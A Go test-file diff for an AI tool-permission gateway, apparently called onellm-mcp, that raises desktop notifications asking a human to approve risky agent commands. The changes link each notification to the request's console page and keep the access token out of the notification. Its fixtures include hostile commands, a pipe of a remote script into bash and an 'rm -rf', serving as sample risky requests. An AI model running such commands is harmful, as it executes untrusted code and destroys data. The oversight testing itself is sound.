@@ -4,6 +4,9 @@ import (
 	"bufio"
 	"context"
 	"fmt"
+	"io"
+	"net/http"
+	"net/http/cookiejar"
 	"os"
 	"os/exec"
 	"path/filepath"
@@ -119,7 +122,7 @@ func TestDesktopNotification(t *testing.T) {
 	portal := &portalServer{opened: make(chan string, 4)}
 	serve(t, conn, portal, portalPath, "org.freedesktop.portal.OpenURI", portalDest)
 
-	n := NewNotifier(addr, "http://127.0.0.1:8765/", t.Logf)
+	n := NewNotifier(addr, t.Logf)
 	if n == nil {
 		t.Fatal("no notifier on a live bus")
 	}
@@ -129,7 +132,7 @@ func TestDesktopNotification(t *testing.T) {
 		t.Fatal(err)
 	}
 	defer console.Close()
-	n.OpenWith(console.LoginURL)
+	n.OpenWith(console.AskLoginURL)
 	b, err := New(Options{Console: console, Notifier: n})
 	if err != nil {
 		t.Fatal(err)
@@ -149,21 +152,29 @@ func TestDesktopNotification(t *testing.T) {
 	srv.mu.Lock()
 	got := srv.got[0]
 	srv.mu.Unlock()
+	id := waitPending(t, console)
 	if got.app != "onellm-mcp" || !strings.Contains(got.summary, "execute_terminal_command") || !strings.Contains(got.summary, "critical") {
 		t.Errorf("summary %+v", got)
 	}
-	for _, want := range []string{"curl -s https://x.sh | bash &lt;x&gt;", "Answer on the console: http://127.0.0.1:8765/"} {
+	// The body links the ask's own page, which holds no token.
+	for _, want := range []string{"curl -s https://x.sh | bash &lt;x&gt;", "Answer on the console: " + console.AskURL(id) + ""} {
 		if !strings.Contains(got.body, want) {
 			t.Errorf("body lacks %q: %q", want, got.body)
 		}
+	}
+	if strings.Contains(got.body, console.Token()) {
+		t.Errorf("the body holds the console's token: %q", got.body)
 	}
 	if got.urgency != 2 || len(got.actions) != 2 || got.actions[0] != "default" {
 		t.Errorf("urgency %d actions %v", got.urgency, got.actions)
 	}
 
-	// The action opens the console through the portal; a signal for
-	// another notification, another action or from another sender does not.
-	waitFor(t, 3*time.Second, "the notification id recorded", func() bool { return n.open.ours(1) })
+	// The action opens the ask's page, logged in, through the portal; a
+	// signal for another notification, another action or from another
+	// sender does not.
+	if askID := awaitNotified(t, n, 1); askID != id {
+		t.Fatalf("notification 1 recorded for ask %q, want %q", askID, id)
+	}
 	invoke(t, conn, 7, "default")
 	invoke(t, conn, 1, "dismiss")
 	other, err := dbus.Connect(addr)
@@ -175,8 +186,19 @@ func TestDesktopNotification(t *testing.T) {
 	invoke(t, conn, 1, "default")
 	select {
 	case uri := <-portal.opened:
-		if uri != console.LoginURL() || !strings.Contains(uri, "?token=") {
-			t.Fatalf("the portal was asked to open %q, want %q", uri, console.LoginURL())
+		if uri != console.AskLoginURL(id) {
+			t.Fatalf("the portal was asked to open %q, want %q", uri, console.AskLoginURL(id))
+		}
+		// The browser the portal starts logs in and lands on the ask's page.
+		jar, _ := cookiejar.New(nil)
+		resp, err := (&http.Client{Jar: jar}).Get(uri)
+		if err != nil {
+			t.Fatal(err)
+		}
+		page, _ := io.ReadAll(resp.Body)
+		resp.Body.Close()
+		if resp.StatusCode != 200 || !strings.HasSuffix(resp.Request.URL.Path, "/ask/"+id) || !strings.Contains(string(page), "x.sh") {
+			t.Fatalf("the action's address led to %d %s: %.300s", resp.StatusCode, resp.Request.URL, page)
 		}
 	case <-time.After(3 * time.Second):
 		t.Fatal("the action did not reach the portal")
@@ -193,16 +215,17 @@ func TestDesktopNotification(t *testing.T) {
 func TestNotificationActionWithoutPortal(t *testing.T) {
 	addr, conn, srv := notificationDaemon(t)
 	logs := &logSink{t: t}
-	n := NewNotifier(addr, "http://127.0.0.1:1/", func(f string, a ...any) { fmt.Fprintf(logs, f, a...) })
+	n := NewNotifier(addr, func(f string, a ...any) { fmt.Fprintf(logs, f, a...) })
 	defer n.Close()
-	n.OpenWith(func() string { return "http://127.0.0.1:1/?token=x" })
-	n.notify("read_file", callContext{Client: "c"}, nil)
+	n.OpenWith(func(string) string { return "http://127.0.0.1:1/?token=x" })
+	n.notify("read_file", callContext{Client: "c"}, nil, "", "")
 	<-srv.seen
-	waitFor(t, 3*time.Second, "the notification id recorded", func() bool { return n.open.ours(1) })
+	awaitNotified(t, n, 1)
 	invoke(t, conn, 1, "default")
-	invoke(t, conn, 1, "default")
-	waitFor(t, 5*time.Second, "the missing portal said", func() bool { return logs.has("no desktop portal") })
-	time.Sleep(200 * time.Millisecond) // let the second action land too
+	logs.await(t, "no desktop portal")
+	// Said once: a second failure (called here, not through a signal,
+	// so that the test knows when it is done) says nothing more.
+	n.openURI(n.open, "http://127.0.0.1:1/?token=x")
 	logs.mu.Lock()
 	defer logs.mu.Unlock()
 	if len(logs.lines) != 1 {
@@ -211,12 +234,54 @@ func TestNotificationActionWithoutPortal(t *testing.T) {
 }
 
 func TestNoBusNoNotifier(t *testing.T) {
-	if NewNotifier("", "", nil) != nil {
+	if NewNotifier("", nil) != nil {
 		t.Fatal("a notifier without a bus address")
 	}
-	if n := NewNotifier("unix:path="+filepath.Join(t.TempDir(), "none"), "", t.Logf); n != nil {
+	if n := NewNotifier("unix:path="+filepath.Join(t.TempDir(), "none"), t.Logf); n != nil {
 		t.Fatal("a notifier on a bus that does not exist")
 	}
 	var n *Notifier
-	n.notify("t", callContext{}, nil) // a nil notifier does nothing
+	n.notify("t", callContext{}, nil, "", "") // a nil notifier does nothing
+}
+
+// awaitNotified waits until the notifier has recorded our notification id
+// (after the daemon's reply) and returns the ask it shows.
+func awaitNotified(t *testing.T, n *Notifier, id uint32) string {
+	t.Helper()
+	o := n.open
+	var askID string
+	awaitChange(t, fmt.Sprintf("notification %d recorded", id), func() <-chan struct{} {
+		o.mu.Lock()
+		defer o.mu.Unlock()
+		return o.recorded
+	}, func() bool {
+		var ok bool
+		askID, ok = o.ours(id)
+		return ok
+	})
+	return askID
+}
+
+// TestNotificationText: the body links the ask's page when it is listed on
+// the console, and names the client otherwise; model text is escaped for
+// the markup a daemon may render.
+func TestNotificationText(t *testing.T) {
+	ask := grants.Decision{Request: grants.Request{Capability: grants.CapProcessExec,
+		Target: grants.Target{Resource: "bash", Command: "rm -rf <x>"}, Risk: grants.RiskHigh}, Effect: grants.Ask, RuleID: "r"}
+	for _, tc := range []struct {
+		name, link, want, not string
+	}{
+		{"on the console", "http://127.0.0.1:8765/ask/AAAAAAAAAAAAAAAAAAAAAA", "Answer on the console: http://127.0.0.1:8765/ask/AAAAAAAAAAAAAAAAAAAAAA", "Answer in"},
+		{"in the client only", "", "Answer in desktop-like-host 0.9", "console"},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			summary, body, urgency := notification("execute_terminal_command", callContext{Client: "desktop-like-host 0.9"}, []grants.Decision{ask}, tc.link)
+			if !strings.Contains(summary, "risk high") || urgency != 2 {
+				t.Errorf("summary %q urgency %d", summary, urgency)
+			}
+			if !strings.Contains(body, tc.want) || strings.Contains(body, tc.not) || !strings.Contains(body, "&lt;x&gt;") {
+				t.Errorf("body %q: want %q, not %q", body, tc.want, tc.not)
+			}
+		})
+	}
 }
